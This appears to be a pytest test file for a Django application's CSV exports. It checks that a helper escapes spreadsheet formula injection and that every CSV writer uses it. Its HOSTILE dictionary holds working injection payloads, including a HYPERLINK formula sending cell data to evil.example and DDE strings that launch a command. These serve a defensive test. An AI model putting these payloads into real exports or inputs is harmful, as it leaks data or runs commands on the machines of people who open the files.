"""CSV exports are safe from formula injection: every cell a customer or staff member can put
text into comes out with a leading = + - @ tab or CR defused by one helper, and every module
that writes CSV goes through it."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from cases.casework.models import Case
from reviews.reports.figures import csv_safe
from reviews.scheduling.models import Occurrence
from tests.conftest import page_client

REPO_ROOT = Path(__file__).resolve().parents[2]
APPS = ("portal", "engagements", "cases", "reviews")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "organization": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "engagement": "+cmd|' /C calc'!A0",
    "subject": "@SUM(1+1)*cmd|' /C calc'!A0",
    "resolved": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\t@x", "'\t@x"),
        (-3, "'-3"),
        (None, ""),
        ("Plain = fine", "Plain = fine"),
        ("'=already quoted", "'=already quoted"),
    ],
)
def test_the_helper(value, expected):
    assert csv_safe(value) == expected


@pytest.mark.django_db
def test_report_csv_defuses_every_hostile_cell(world):
    engagement = world.a.objects["engagement"]
    organization = world.a.organization
    organization.name = HOSTILE["organization"]
    organization.save(update_fields=["name"])
    engagement.name = HOSTILE["engagement"]
    engagement.save(update_fields=["name"])
    now = timezone.now()
    start = now - timedelta(days=20)
    for key in ("subject", "resolved", "tab"):
        Case.objects.create(
            engagement=engagement,
            kind=Case.Kind.INQUIRY,
            severity=Case.Severity.MEDIUM,
            subject=HOSTILE[key],
            received_at=start + timedelta(days=2),
            reminder_due_at=start + timedelta(days=2, hours=2),
            response_due_at=start + timedelta(days=3),
            raised_by=world.a.poc,
            **(
                {"status": "resolved", "resolved_at": start + timedelta(days=4)}
                if key == "resolved"
                else {}
            ),
        )
    review = Occurrence.objects.create(
        engagement=engagement,
        deliverable="service_review",
        period="test:csv",
        scheduled_start=now,
        method="video",
    )
    response = page_client(world.a.poc).get(reverse("review_report_csv", args=[review.pk]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    # The hostile text is there, defused, not dropped.
    for key in ("organization", "engagement", "subject", "tab"):
        assert "'" + HOSTILE[key] in cells, key


def test_every_csv_writer_goes_through_the_helper():
    """A new export that writes CSV without csv_safe fails here."""
    writers = []
    for app in APPS:
        for path in (REPO_ROOT / app).rglob("*.py"):
            if "migrations" in path.parts:
                continue
            text = path.read_text()
            if re.search(r"csv\.(writer|DictWriter)\(|text/csv", text):
                writers.append(path)
                assert re.search(r"\b(csv_safe|report_csv_rows)\b", text), path
    assert writers, "the review report's CSV export should have been found"
